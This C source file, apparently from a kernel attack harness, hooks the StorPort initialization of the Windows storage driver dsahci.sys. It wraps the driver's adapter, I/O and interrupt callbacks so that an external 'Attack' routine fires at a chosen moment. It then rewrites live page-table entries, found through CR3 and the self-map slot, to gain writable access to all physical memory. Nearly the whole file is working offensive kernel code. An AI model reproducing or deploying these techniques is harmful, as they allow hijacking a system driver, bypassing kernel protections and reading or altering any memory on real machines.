// Waits for the moment of the attack: DriverEntry of dsahci.sys calls InitializeWatched where it would call StorPortInitialize.
#include "hostile.h"

#ifndef LIFE
#error "-DLIFE=1 for the running system, 2 for the dump"
#endif
/** Requests of the running system are those of its start before this one. */
#define FIRST_REQUEST 12

UCHAR Room[ROOM];
__attribute__((aligned(0x1000))) ULONG64 Tables[4][ENTRIES];
static HW_INITIALIZATION_DATA Good;
static BOOLEAN IsThisLife;
static ULONG Requests;
static BOOLEAN HasAttacked;

static void Now(ULONG Moment, void *Extension, SCSI_REQUEST_BLOCK *Srb, PORT_CONFIGURATION_INFORMATION *Config) {
    if (!IsThisLife || HasAttacked || Moment != MOMENT) return;
    HasAttacked = TRUE;
    MOMENT_OF_ATTACK at = { Extension, Srb, Config };
    Attack(&at);
}

static ULONG FindAdapter(void *Extension, void *Context, void *Bus, const CHAR *Arguments, PORT_CONFIGURATION_INFORMATION *Config,
                         BOOLEAN *Again) {
    Now(AT_FIND_ADAPTER, Extension, NULL, Config);
    ULONG found = Good.HwFindAdapter(Extension, Context, Bus, Arguments, Config, Again);
    Now(AT_CONFIGURATION, Extension, NULL, Config);
    return found;
}

static BOOLEAN Initialize(void *Extension) {
    BOOLEAN good = Good.HwInitialize(Extension);
    Now(AT_INITIALIZE, Extension, NULL, NULL);
    return good;
}

static BOOLEAN StartIo(void *Extension, SCSI_REQUEST_BLOCK *Srb) {
    if (++Requests >= FIRST_REQUEST || LIFE == 2) Now(AT_START_IO, Extension, Srb, NULL);
    return Good.HwStartIo(Extension, Srb);
}

static BOOLEAN Interrupt(void *Extension) {
    if (Requests >= FIRST_REQUEST || LIFE == 2) Now(AT_INTERRUPT, Extension, NULL, NULL);
    return Good.HwInterrupt(Extension);
}

ULONG InitializeWatched(void *DriverObject, void *RegistryPath, HW_INITIALIZATION_DATA *Data, void *Context) {
    HW_INITIALIZATION_DATA data = *Data;
    Good = *Data;
    IsThisLife = (LIFE == 2) == (RegistryPath == NULL);
    Now(AT_ENTRY, NULL, NULL, NULL);
    data.HwFindAdapter = FindAdapter;
    data.HwInitialize = Initialize;
    data.HwStartIo = StartIo;
    data.HwInterrupt = Interrupt;
    return StorPortInitialize(DriverObject, RegistryPath, &data, Context);
}

volatile ULONG64 *RootTable(void) {
    ULONG64 root;
    __asm__("mov %%cr3, %0" : "=r"(root));
    for (ULONG64 slot = ENTRIES / 2; slot < ENTRIES; slot++) {
        volatile ULONG64 *table =
            (volatile ULONG64 *)(0xFFFF000000000000ull | slot << 39 | slot << 30 | slot << 21 | slot << 12);
        if (!MmIsAddressValid((void *)table)) continue;
        if ((table[slot] & 0xFFFFFFFFF000ull) == (root & 0xFFFFFFFFF000ull)) return table;
    }
    return NULL;
}

ULONG64 PhysicalOf(void *Address) {
    ULONG length = 0;
    return (ULONG64)StorPortGetPhysicalAddress(NULL, NULL, Address, &length).QuadPart;
}

UCHAR *AliasedMemory(void) {
    ULONG64 slot = 0;
    volatile ULONG64 *root = RootTable();
    for (ULONG level = 0; level < 3; level++) {
        ULONG64 below = PhysicalOf(Tables[level + 1]) | PRESENT_AND_WRITABLE;
        for (ULONG i = 0; i < ENTRIES; i++) Tables[level][i] = below;
    }
    // 100 slots of the user half in a row that are not used: the System process has no user memory
    for (ULONG64 run = 0; run < 100 && slot < ENTRIES; slot++) run = (root[slot] & 1) == 0 ? run + 1 : 0;
    ULONG64 first = slot - 100;
    for (ULONG64 i = first; i < slot; i++) root[i] = PhysicalOf(Tables[0]) | PRESENT_AND_WRITABLE;
    ForgetTranslations();
    return (UCHAR *)(first << 39);
}
